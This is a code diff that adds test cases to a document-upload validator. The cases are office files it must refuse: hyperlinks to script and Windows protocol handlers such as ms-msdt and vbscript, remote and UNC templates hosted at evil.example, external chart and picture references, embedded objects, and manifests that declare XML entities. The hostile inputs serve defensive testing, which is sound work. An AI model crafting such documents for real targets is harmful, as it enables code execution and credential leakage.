@@ -114,6 +114,15 @@ def odf_with(body):
 
 
 # {description: (error code, file name, function that creates the file)}
+def declaring(extension, more):
+    """Return a DOCX that declares embedded objects by their extension."""
+    types = f'<Default Extension="{extension}" ContentType="{OFFICE}oleObject"/></Types>'
+    made = ooxml("DOCX", more)
+    with ZipFile(BytesIO(made)) as archive:
+        entries = {name: archive.read(name).decode() for name in archive.namelist()}
+    return package({**entries, "[Content_Types].xml": entries["[Content_Types].xml"].replace("</Types>", types)})
+
+
 REFUSED = {
     # legacy and other types
     "DOC": ("old_office", "a.doc", lambda: OLE + bytes(2000)),
@@ -156,8 +165,14 @@ REFUSED = {
         "PPTX", {"ppt/slides/slide1.xml": '<p:sld xmlns:p="p"><p:a action="ppaction://program"/></p:sld>'})),
     "DOCX with a link that is a script": ("macros", "a.docx", lambda: (
         relation_entry(("hyperlink", "javascript:alert(1)", True)))),
-    "DOCX with a link to a protocol of Windows": ("macros", "a.docx", lambda: (
+    "DOCX with a link to a protocol of Windows": ("link", "a.docx", lambda: (
         relation_entry(("hyperlink", "ms-msdt:/id", True)))),
+    **{f"DOCX with a link to {target}": (code, "a.docx", lambda target=target: relation_entry(
+        ("hyperlink", target, True))) for target, code in (
+        ("vbscript:msgbox(1)", "macros"), ("data:text/html,a", "macros"), (" JavaScript:alert(1)", "macros"),
+        ("vnd.sun.star.script:443/../a.py$b?language=Python", "macros"), ("macro:///Standard.Module1.Main()", "macros"),
+        ("search-ms:query=a", "link"), ("ms-msdt: /id", "link"), ("ms-word:ofe|u|https://evil.example/a", "link"),
+        ("about:config", "link"), ("Nota: vea el anexo", "link"), ("evil.handler:443/a", "link"))},
     "ODT with Basic": ("macros", "a.odt", lambda: odf("ODT", {"Basic/Standard/Module1.xml": "<a/>"})),
     "ODT with Python": ("macros", "a.odt", lambda: odf("ODT", {"Scripts/python/a.py": "a"})),
     "ODS with a macro on an event": ("macros", "a.ods", lambda: odf("ODS", body=(
@@ -171,6 +186,11 @@ REFUSED = {
         ("attachedTemplate", "https://evil.example/a.dotm", True))),
     "DOCX with a template on a network": ("external", "a.docx", lambda: relation_entry(
         ("attachedTemplate", r"file://\\evil.example\a.dotm", True))),
+    **{f"DOCX with the template {target}": ("external", "a.docx", lambda target=target: relation_entry(
+        ("attachedTemplate", target, True))) for target in (
+        "file:///Users/../net/evil.example/a.dotm", "file:///%5C%5Cevil.example/a.dotm", "%5C%5Cevil.example/a.dotm",
+        "file://///evil.example/a.dotm", "file://evil.example/a.dotm", "file:///net/evil.example/a.dotm",
+        r"\\evil.example\a.dotm", "mhtml:a.dotm")},
     "DOCX with a picture elsewhere": ("external", "a.docx", lambda: (
         relation_entry(("image", "https://evil.example/a.png", True)))),
     "DOCX with an object elsewhere": ("external", "a.docx", lambda: relation_entry(
@@ -197,7 +217,23 @@ REFUSED = {
     "ODS that asks another program": ("external", "a.ods", lambda: odf("ODS", body="<table:dde-link/>")),
     "ODT with a template elsewhere": ("external", "a.odt", lambda: odf(
         "ODT", meta='<meta:template xlink:href="https://evil.example/a.ott"/>')),
+    **{f"ODT with the template {target}": ("external", "a.odt", lambda target=target: odf(
+        "ODT", meta=f'<meta:template xlink:href="{target}"/>')) for target in (
+        "file:///net/evil.example/a.ott", "file://evil.example/a.ott", "//evil.example/a.ott", "smb://evil.example/a")},
+    "ODS with a chart of another document": ("external", "a.ods", lambda: odf("ODS", body=(
+        '<c:chart xmlns:c="urn:oasis:names:tc:opendocument:xmlns:chart:1.0" xlink:href="../a.ods"/>'))),
+    "ODT with a picture of the folder above": ("external", "a.odt", lambda: odf_with('<draw:image xlink:href=".."/>')),
+    "web page of LibreOffice": ("template", "a.odt", lambda: odf(
+        "ODT", mimetype="application/vnd.oasis.opendocument.text-web")),
     # embedded content
+    "DOCX with a picture in PDF": ("pdf_picture", "a.docx", lambda: ooxml("DOCX", {"word/media/image9.pdf": pdf()})),
+    "DOCX with a part of a declared type": ("embedded", "a.docx", lambda: declaring("bin", {"word/a.bin": b"a"})),
+    "DOCX with a part of a declared type in capitals": ("embedded", "a.docx", lambda: declaring(
+        "BIN", {"word/a%2EBin": b"a"})),
+    "ODT whose manifest defines its type": ("entities", "a.odt", lambda: odf(
+        "ODT", {"META-INF/manifest.xml": "<!DOCTYPE m [<!ATTLIST m a CDATA 'b'>]><m/>"})),
+    "ODT whose manifest defines an entity": ("entities", "a.odt", lambda: odf(
+        "ODT", {"META-INF/manifest.xml": LAUGHS})),
     "DOCX with an object": ("embedded", "a.docx", lambda: ooxml("DOCX", {"word/embeddings/oleObject1.bin": OLE})),
     "DOCX with an object called a picture": ("embedded", "a.docx", lambda: (
         ooxml("DOCX", {"word/media/image1.png": OLE}))),
